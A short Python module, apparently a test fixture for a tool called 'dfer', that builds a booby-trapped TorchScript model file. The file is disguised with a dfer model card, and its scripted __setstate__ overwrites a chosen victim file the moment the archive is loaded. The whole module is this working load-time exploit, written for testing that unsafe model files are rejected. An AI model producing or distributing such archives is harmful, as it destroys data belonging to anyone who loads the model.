"""A TorchScript file that overwrites a file of the user when it is loaded."""

from pathlib import Path

import torch


class _Overwrite(torch.nn.Module):
    """Code in the archive sets its state."""

    def __init__(self, victim: str) -> None:
        super().__init__()
        self.victim = victim

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.victim, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.victim = state[0]
        self.training = state[1]
        torch.save(torch.zeros(3), self.victim)

    def forward(self, frames: torch.Tensor) -> torch.Tensor:
        torch.save(frames, self.victim)
        return frames


def write_attack(path: Path, victim: Path, card: str) -> Path:
    """Write the file; `card` is the text that `dfer export` would put into it."""
    torch.jit.save(
        torch.jit.script(_Overwrite(str(victim))), str(path), _extra_files={"dfer_model_json": card}
    )
    return path
